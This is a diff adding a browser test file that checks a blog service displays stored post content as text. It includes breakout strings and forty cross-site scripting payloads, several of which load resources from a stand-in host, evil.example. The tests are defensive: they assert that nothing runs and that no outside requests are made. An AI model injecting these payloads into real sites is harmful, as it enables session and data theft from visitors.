@@ -1,0 +1,134 @@
+/** Content that tries to become script: stored through the service, shown by a real browser. */
+import { afterAll, beforeAll, expect, test } from 'vitest';
+import { href } from '../../src/contract/routes.ts';
+import { browserOfFile, hydrated } from '../helpers/browser.ts';
+import { type OwnServices, startServices } from '../helpers/own-services.ts';
+import { paragraph, publish } from '../helpers/posts.ts';
+import { type Product, startProduct } from '../helpers/product.ts';
+
+const browser = browserOfFile();
+let services: OwnServices;
+let product: Product;
+beforeAll(async () => {
+  services = await startServices();
+  product = await startProduct({ env: services.env });
+});
+afterAll(async () => {
+  await product?.remove();
+  await services?.remove();
+});
+
+/** Opens the page of a post and says what scripts it ran that were not ours, and what it asked of strangers. */
+async function visit(slug: string) {
+  const page = await browser.open({ origin: product.origin });
+  const foreign: string[] = [];
+  page.on('request', (request) => {
+    const { origin, protocol } = new URL(request.url());
+    if (origin !== product.origin && protocol.startsWith('http')) foreign.push(request.url());
+  });
+  page.on('dialog', (dialog) => {
+    foreign.push(`dialog ${dialog.message()}`);
+    void dialog.dismiss();
+  });
+  await page.goto(href('post', { slug }));
+  await hydrated(page);
+  return { page, foreign };
+}
+const ownScripts = 4;
+
+const breakouts = [
+  '</script><script>window.pwned=1</script>',
+  '<!--<script>window.pwned=1//',
+  '\u2028window.pwned=1\u2029',
+  'lone \ud800 surrogate',
+  ']]><img src=x onerror=window.pwned=1>',
+  '"};window.pwned=1;//',
+];
+
+test.each(breakouts.map((text, index) => [text, `breakout-${index}`] as const))(
+  'T09: %j in title and body neither ends the payload block nor runs',
+  async (text, slug) => {
+    await publish(services, { slug, title: `Before ${text} after`, body: paragraph(text) });
+    const html = await (await fetch(product.url(href('post', { slug })))).text();
+    expect(html.match(/<\/script/gi)?.length).toBeLessThanOrEqual(ownScripts);
+    const { page, foreign } = await visit(slug);
+    expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
+    expect(await page.locator('h1').innerText()).toContain('Before');
+    expect([foreign, page.problems]).toEqual([[], []]);
+  },
+);
+
+const payloads = [
+  '<script>window.pwned=1</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<img src=x onerror=window.pwned=1>',
+  '<IMG """><SCRIPT>window.pwned=1</SCRIPT>"\\>',
+  '<svg/onload=window.pwned=1>',
+  '<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>',
+  '<iframe srcdoc="<script>parent.pwned=1</script>">',
+  '<iframe src=javascript:parent.pwned=1>',
+  '<body onload=window.pwned=1>',
+  '<details open ontoggle=window.pwned=1>',
+  '<input autofocus onfocus=window.pwned=1>',
+  '<video><source onerror=window.pwned=1>',
+  '<math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>',
+  '<a href="jav&#x09;ascript:window.pwned=1">x</a>',
+  '<meta http-equiv=refresh content="0;url=//evil.example">',
+  '<link rel=stylesheet href=//evil.example/x.css>',
+  '<base href=//evil.example/>',
+  '<style>@import "//evil.example/x.css";</style>',
+  '<object data=//evil.example/x>',
+  '<embed src=//evil.example/x>',
+  '<form action=//evil.example><button>go</button></form>',
+  '<template><script>window.pwned=1</script></template>',
+  '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
+  '<xss style="animation-name:x" onanimationstart=window.pwned=1>',
+  '{{constructor.constructor("window.pwned=1")()}}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: an attack on templates, not a template
+  '${window.pwned=1}',
+  '&lt;script&gt;window.pwned=1&lt;/script&gt;',
+  '%3Cscript%3Ewindow.pwned=1%3C/script%3E',
+  '\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e',
+  'javascript:window.pwned=1',
+  '<<script>window.pwned=1//<</script>',
+  '<script\\x20type="text/javascript">window.pwned=1</script>',
+  '<img src="x`<script>window.pwned=1</script>"`>',
+  '<div onpointerover=window.pwned=1>hover</div>',
+  '<marquee onstart=window.pwned=1>',
+  '<audio src onloadstart=window.pwned=1>',
+  '<select autofocus onfocus=window.pwned=1>',
+  '<textarea autofocus onfocus=window.pwned=1>',
+  '<keygen autofocus onfocus=window.pwned=1>',
+  '<isindex action=javascript:window.pwned=1 type=image>',
+];
+
+test('T50: 40 ways of script in every text of a post are shown as the text they are', async () => {
+  expect(payloads).toHaveLength(40);
+  const content = payloads.map((text) => ({ type: 'paragraph' as const, content: [{ type: 'text' as const, text }] }));
+  await publish(services, {
+    slug: 'forty-ways',
+    title: payloads[0] as string,
+    summary: payloads.slice(1, 5).join(' '),
+    body: { type: 'doc', content },
+    tags: ['<b>tag</b>'],
+    seo: { title: '"><script>1</script>', description: '"><script>window.pwned=1</script>' },
+  });
+  const { page, foreign } = await visit('forty-ways');
+  await page.locator('article, main').first().hover();
+  const text = await page.locator('main').innerText();
+  for (const payload of payloads) expect(text.replace(/\s+/g, ' ')).toContain(payload.replace(/\s+/g, ' '));
+  expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
+  expect(await page.locator('main script, main iframe, main object, main embed').count()).toBe(0);
+  expect([foreign, page.problems]).toEqual([[], []]);
+});
+
+test('T30: a title that reads like a moment stays a title', async () => {
+  await publish(services, {
+    slug: 'a-moment',
+    title: '2026-01-01T00:00:00Z',
+    body: paragraph('2026-01-01T00:00:00.000Z'),
+  });
+  const { page } = await visit('a-moment');
+  expect(await page.locator('h1').innerText()).toBe('2026-01-01T00:00:00Z');
+  expect(page.problems).toEqual([]);
+});
